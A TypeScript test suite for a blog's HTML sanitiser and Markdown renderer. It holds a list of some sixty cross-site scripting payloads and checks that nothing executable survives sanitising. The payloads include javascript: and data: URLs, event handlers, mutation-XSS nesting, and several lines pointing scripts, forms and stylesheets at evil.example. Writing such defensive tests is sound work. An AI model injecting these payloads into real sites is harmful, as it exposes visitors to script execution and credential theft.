import fc from 'fast-check'
import { parseFragment } from 'parse5'
import { expect, test } from 'vitest'
import { renderMarkdown } from './markdown.ts'
import { postSource } from './post-source.fixture.ts'
import { sanitise } from './sanitise.ts'
import { ALLOWLIST } from './sanitise-rules.ts'

type Node = { nodeName: string; attrs?: { name: string; value: string }[]; childNodes?: Node[]; content?: Node }

const site = { url: 'https://blog.example.org/post/' }
const elements = new Set(ALLOWLIST.allowedTags)
const attributes = new Set([...Object.values(ALLOWLIST.allowedAttributes).flat(), 'class'])
const addresses = new Set(['href', 'src', 'poster', 'cite'])

/** What a browser's parser finds in the HTML that the allowlist has no room for. */
function forbiddenIn(html: string): string[] {
  const found: string[] = []
  const visit = (node: Node): void => {
    if (!node.nodeName.startsWith('#') && !elements.has(node.nodeName)) found.push(`<${node.nodeName}>`)
    if (node.nodeName === '#comment') found.push('comment')
    for (const { name, value } of node.attrs ?? []) {
      if (!attributes.has(name)) found.push(name)
      if (addresses.has(name) && !/^(?:https?:\/\/|mailto:|tel:)/.test(value)) found.push(`${name}=${value}`)
      if (name === 'srcset' && !value.split(', ').every((one) => /^https?:\/\//.test(one)))
        found.push(`srcset=${value}`)
    }
    for (const child of node.childNodes ?? []) visit(child)
  }
  visit(parseFragment(html) as unknown as Node)
  return found
}

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://blog.example.org/1">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"><embed src="javascript:alert(1)"></object>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<p id="x" id="y" onclick=alert(1) class="evil">x</p>',
  '<a href="https://ok.example" target=_blank ping="https://evil.example">x</a>',
  '<p constructor=x __proto__=y toString=z>x</p><constructor>x</constructor>',
  '<marquee onstart=alert(1)>x</marquee><custom-element onclick=alert(1)>x</custom-element>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="`><script>alert(1)</script>">',
  '[x](javascript:alert(1)) ![x](data:image/svg+xml,%3Csvg%3E) <javascript:alert(1)>',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '`<script>alert(1)</script>` \\<script>alert(1)\\</script>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '[^"><script>]: x\n\nnote[^"><script>]',
  '# <img src=x onerror=alert(1)> "><script>',
  '==<script>alert(1)</script>== [[<script>alert(1)</script>]] ![["><script>x.png]]',
  '{{< figure src="javascript:alert(1)" alt="\\"><script>" >}} {{< youtube "><script>alert(1)</script>" >}}',
  '{% img javascript:alert(1)/x.png "><script>" %}',
]

test.each(attacks)('nothing that could run is left of %j', (attack) => {
  expect(forbiddenIn(sanitise(attack, site))).toEqual([])
  expect(forbiddenIn(renderMarkdown(attack, site))).toEqual([])
  expect(forbiddenIn(renderMarkdown(`text ${attack} text`, site))).toEqual([])
})

const source = postSource(attacks)

test('whatever stands in a post, its HTML holds only what is allowed', () => {
  fc.assert(
    fc.property(source, (body) => forbiddenIn(renderMarkdown(body, site)).length === 0),
    { numRuns: 1000 },
  )
})
